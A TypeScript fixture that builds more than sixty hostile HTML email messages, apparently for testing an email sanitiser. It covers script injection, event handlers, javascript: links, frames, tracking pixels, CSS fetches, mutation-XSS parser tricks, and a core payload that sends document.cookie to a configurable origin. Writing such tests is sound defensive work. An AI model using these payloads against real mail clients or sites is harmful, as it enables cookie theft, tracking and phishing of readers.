// More than sixty HTML messages that attack their readers: they try to run scripts, to send requests, or to navigate
// away.

/** A hostile message. */
export interface HostileMail {
  readonly name: string
  readonly html: string
}

/** Returns a script that performs every attack. */
const attack = (home: string): string =>
  `alert(document.cookie);top.pwned=1;document.title='pwned';fetch('${home}/f?'+document.cookie);new Image().src='${home}/i';open('${home}/o');top.location='${home}/t'`

const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/**
 * Returns the hostile messages.
 * @param home origin to which the messages try to send requests
 */
export function hostileMails(home: string): HostileMail[] {
  const js = attack(home)
  const inAttribute = attribute(js)
  const document64 = Buffer.from(`<script>${js}</script>`).toString('base64')
  const host = new URL(home).host
  const mails: Record<string, string> = {
    ...scripts(home, js, document64),
    ...handlers(inAttribute),
    ...links(home, inAttribute, document64),
    ...frames(home, js, document64),
    ...beacons(home, host),
    ...styles(home, js),
    ...parsers(home, js, inAttribute),
  }
  return Object.entries(mails).map(([name, html]) => ({ name, html: `<p>${name}</p>${html}` }))
}

type Mails = Record<string, string>

const scripts = (home: string, js: string, document64: string): Mails => ({
  'a script': `<script>${js}</script>`,
  'a script from elsewhere': `<script src="${home}/s.js"></script>`,
  'a module and its import': `<script type="module">import '${home}/m.js';${js}</script>`,
  'an import map': `<script type="importmap">{"imports":{"a":"${home}/a.js"}}</script><script type="module">import "a"</script>`,
  'speculation rules': `<script type="speculationrules">{"prerender":[{"urls":["${home}/sp"]}],"prefetch":[{"urls":["${home}/sq"]}]}</script>`,
  'a script as data': `<script src="data:text/javascript;base64,${Buffer.from(js).toString('base64')}"></script>`,
  'a script in SVG': `<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script><script href="${home}/svg.js"/></svg>`,
  'a script with an odd tag': `<script/x>${js}</script\t\n bar><SCRIPT\n>${js}</SCRIPT>`,
  'a script of another document': `<object type="text/html" data="data:text/html;base64,${document64}"></object>`,
})

const handlers = (js: string): Mails => ({
  'an image that fails': `<img src=x onerror="${js}">`,
  'SVG that loads': `<svg onload="${js}"></svg><svg/onload="${js}">`,
  'a body with handlers': `<body onload="${js}" onpageshow="${js}" onfocus="${js}" onhashchange="${js}">`,
  'a field that is focused': `<input autofocus onfocus="${js}"><select autofocus onfocus="${js}"></select>`,
  'details that open': `<details open ontoggle="${js}"><summary>x</summary></details>`,
  'an animation that ends': `<style>@keyframes x{to{left:1px}}</style><b style="animation:x .01s" onanimationend="${js}" onanimationstart="${js}">x</b>`,
  'media that fail': `<video src=x onerror="${js}"><source onerror="${js}"></video><audio src=x onerror="${js}"></audio>`,
  'a marquee': `<marquee onstart="${js}" onfinish="${js}" loop=1>x</marquee>`,
  'SVG that animates': `<svg><animate onbegin="${js}" attributeName=x dur=1s /><set onbegin="${js}" attributeName=x to=1 /></svg>`,
  'a popover': `<button popovertarget=p autofocus>x</button><div id=p popover onbeforetoggle="${js}" ontoggle="${js}">x</div>`,
})

const links = (home: string, js: string, document64: string): Mails => ({
  'a link that is a script': `<a href="javascript:${js}">click me</a>`,
  'a link that hides being a script': `<a href="java&#10;script&colon;${js}">click me</a><a href=" &#1;javascript:${js}">x</a>`,
  'a link in SVG': `<svg width=200 height=40><a xlink:href="javascript:${js}" href="javascript:${js}"><text y=20>click me</text></a></svg>`,
  'a link in MathML': `<math href="javascript:${js}">click me</math><math><mtext><a href="javascript:${js}">click me</a></mtext></math>`,
  'a link to the top': `<a href="${home}/top" target="_top">click me</a>`,
  'a link to the parent': `<a href="${home}/parent" target="_parent">click me</a>`,
  'a link to a window': `<a href="${home}/window" target="_blank" rel="opener">click me</a>`,
  'a link that pings': `<a href="#x" ping="${home}/ping">click me</a>`,
  'a link to a document of its own': `<a href="data:text/html;base64,${document64}" target="_top">click me</a>`,
  'a download': `<a href="${home}/x.exe" download="x.exe">click me</a>`,
  'a map': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width=200 height=40><map name=m><area shape=default href="javascript:${js}" target=_top></map>`,
  'a base for all links': `<base href="${home}/" target="_top"><a href="base">click me</a><img src="base.png">`,
})

const frames = (home: string, js: string, document64: string): Mails => ({
  'a frame from elsewhere': `<iframe src="${home}/frame"></iframe>`,
  'a frame with a script': `<iframe src="javascript:parent.${attribute(js)}"></iframe>`,
  'a frame with a document inside': `<iframe srcdoc="${attribute(`<script>${js}</script><img src=${home}/srcdoc><link rel=preconnect href=${home}/pre>`)}"></iframe>`,
  'frames in frames': `<iframe srcdoc="${attribute(`<iframe srcdoc="${attribute(`<script>${js}</script>`)}"></iframe>`)}"></iframe>`,
  'a frame as data': `<iframe src="data:text/html;base64,${document64}" sandbox="allow-scripts allow-top-navigation"></iframe>`,
  'a frameset': `<frameset onload="${attribute(js)}"><frame src="${home}/frameset"></frameset>`,
  'an object and an embed': `<object data="${home}/object"></object><embed src="${home}/embed"><applet code=x codebase="${home}/"></applet>`,
  'a frame of this very page': `<iframe src="/" name=own></iframe><form action="/api/session" target=own method=post><button autofocus>click me</button></form>`,
  'a form that goes away': `<form action="${home}/form" method=post target=_top><input name=password value=x><button>click me</button></form>`,
  'a form by a script': `<form action="javascript:${attribute(js)}"><button formaction="javascript:${attribute(js)}">click me</button></form>`,
})

const beacons = (home: string, host: string): Mails => ({
  'an image that counts': `<img src="${home}/pixel.gif" width=1 height=1><img src="//${host}/slash.gif"><input type=image src="${home}/input.gif">`,
  'images to choose from': `<img srcset="${home}/1x.png 1x, ${home}/2x.png 2x"><picture><source srcset="${home}/s.webp"><img src="${home}/p.png" loading=eager></picture>`,
  'old images': `<body background="${home}/body.png"><table background="${home}/table.png"><tr><td background="${home}/td.png">x</td></tr></table>`,
  'images in SVG': `<svg><image href="${home}/image.png" xlink:href="${home}/xlink.png" width=9 height=9 /><use href="${home}/use.svg#x"/><feImage href="${home}/fe.png"/></svg>`,
  'media that are fetched': `<video poster="${home}/poster.png" src="${home}/v.mp4" autoplay preload=auto muted></video><audio src="${home}/a.mp3" autoplay></audio><video><track default src="${home}/t.vtt"></video>`,
  'links that are fetched ahead': `<link rel=preload as=image href="${home}/preload.png"><link rel=prefetch href="${home}/prefetch"><link rel=modulepreload href="${home}/mp.js"><link rel=prerender href="${home}/pr">`,
  'links that connect ahead': `<link rel=preconnect href="${home}/"><link rel=dns-prefetch href="//beacon.invalid"><LiNk/rel="preconnect"href="${home}"><meta http-equiv=x-dns-prefetch-control content=on><a href="http://looked-up.invalid/">x</a>`,
  'icons and manifests': `<link rel=icon href="${home}/favicon.ico"><link rel=manifest href="${home}/manifest.json"><link rel=apple-touch-icon href="${home}/touch.png">`,
  'a page that leads on by itself': `<meta http-equiv=refresh content="0;url=${home}/refresh"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv=refresh content="0;url=data:text/html,x">`,
  'policies and cookies of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${home}/report"><meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="${home}/csp.png">`,
})

const styles = (home: string, js: string): Mails => ({
  'styles that fetch': `<style>@import url("${home}/import.css");@import "${home}/import2.css";body{background:url(${home}/bg.png)}</style><link rel=stylesheet href="${home}/sheet.css">`,
  'a font that counts': `<style>@font-face{font-family:f;src:url(${home}/font.woff2)}p{font-family:f}</style>`,
  'styles that read': `<style>input[value^=a]{background:url(${home}/a)}p::before{content:url(${home}/content.png)}p{cursor:url(${home}/cursor.cur),auto;list-style:url(${home}/li);border-image:url(${home}/bi)}</style><input value=abc>`,
  'styles of long ago': `<b style="width:expression(${js});behavior:url(${home}/x.htc);-moz-binding:url(${home}/x.xml#x);background:url(javascript:${attribute(js)})">x</b>`,
  'styles behind escapes': `<style>@\\69mport url(${home}/escaped.css);p{background:\\75rl(${home}/escaped.png);background-image:image-set("${home}/set.png" 1x)}</style>`,
  'a curtain over the page': `<a href="${home}/curtain" target=_top style="position:fixed;inset:0;z-index:2147483647;opacity:.01">click me</a>`,
})

const parsers = (home: string, js: string, inAttribute: string): Mails => ({
  'markup that changes when it is read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inAttribute}&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${inAttribute}>">`,
  'noscript, noembed, template': `<noscript><p title="</noscript><img src=x onerror='${inAttribute}'>"></noscript><noembed><img src=${home}/ne></noembed><template><script>${js}</script></template><xmp><p title="</xmp><svg onload='${inAttribute}'>"></xmp>`,
  'CDATA and comments': `<svg><![CDATA[><image xlink:href="]]><img src=x onerror='${inAttribute}'//">]]></svg><!--><img src=x onerror='${inAttribute}'>--><!--!><script>${js}</script>-->`,
  'UTF-7 and other charsets': `<meta charset="utf-7"><meta http-equiv=content-type content="text/html; charset=utf-16">+ADw-script+AD4-alert(1)+ADw-/script+AD4-\u00bcscript\u00bealert(1)\u00bc/script\u00be`,
  'a page that ends early': `</p></body></html></iframe></template></textarea></title></style><script>${js}</script><plaintext>`,
  'a shadow': `<div><template shadowrootmode=open><style>@import "${home}/shadow.css";</style><script>${js}</script><img src=x onerror="${inAttribute}"></template></div>`,
  'XML with a style sheet': `<?xml version="1.0"?><?xml-stylesheet href="${home}/x.xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${home}/entity">]><x>&e;</x>`,
  'a document of twelve thousand paragraphs': `${'<b><i>'.repeat(500)}${'<p title="x">x'.repeat(12_000)}<img src="${home}/huge.png" onerror="${inAttribute}">`,
})
